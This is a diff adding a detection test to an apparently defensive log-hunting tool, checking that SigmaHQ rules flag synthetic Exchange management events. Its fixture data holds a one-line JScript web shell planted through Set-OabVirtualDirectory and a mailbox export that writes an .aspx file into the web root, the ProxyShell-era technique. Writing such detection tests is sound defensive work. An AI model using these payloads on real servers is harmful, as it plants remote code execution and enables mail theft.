@@ -138,3 +138,53 @@ def test_event_rules(tmp_path: Path) -> None:
     # A .pst export to a file share and WerFault under the UM worker are what they should be.
     assert not [g for g in got if g[2] in (3, 11)]
     assert res.hosts[0].coverage["evtx"]["records"] == 7
+
+
+def test_public_msexchange_management_rules_match(tmp_path: Path, shared_reference: Path) -> None:
+    """The SigmaHQ rules for the MSExchange Management log run unmodified on exported events."""
+    root = tmp_path / "EXCH01"
+    root.mkdir()
+    mgmt = "MSExchange Management"
+    events = [
+        _event(
+            1,
+            mgmt,
+            "MSExchange CmdletLogs",
+            1,
+            [
+                (None, "Set-OabVirtualDirectory"),
+                (
+                    None,
+                    '-ExternalUrl \'http://f/&lt;script language="JScript" runat="server"&gt;function Page_Load(){eval(Request["k"],"unsafe");}&lt;/script&gt;\' -Identity \'OAB\'',
+                ),
+            ],
+            "2021-03-03T06:59:18Z",
+        ),
+        _event(
+            2,
+            mgmt,
+            "MSExchange CmdletLogs",
+            1,
+            [
+                (None, "New-MailboxExportRequest"),
+                (None, '-Mailbox "admin" -FilePath "\\\\127.0.0.1\\c$\\inetpub\\x.aspx"'),
+            ],
+            "2021-08-10T09:50:57Z",
+        ),
+        _event(
+            3,
+            mgmt,
+            "MSExchange CmdletLogs",
+            1,
+            [(None, "Set-Mailbox"), (None, '-Identity "x" -ForwardingSmtpAddress "smtp:y@example.test"')],
+            "2021-08-10T09:51:57Z",
+        ),
+    ]
+    (root / "mgmt.xml").write_text("<Events>\n" + "".join(events) + "</Events>\n")
+    rules = shared_reference / "public-rules" / "sigma"
+    res = hunt_paths([root], HuntOptions(jobs=1, builtin_rules=False, rule_dirs=(rules,)))
+    got = {(f.rule, f.evidence.record) for f in res.findings}
+    assert got == {
+        ("sigma.550d3350-bb8a-4ff3-9533-2ba533f4a1c0", 1),
+        ("sigma.516376b4-05cd-4122-bae0-ad7641c38d48", 2),
+    }
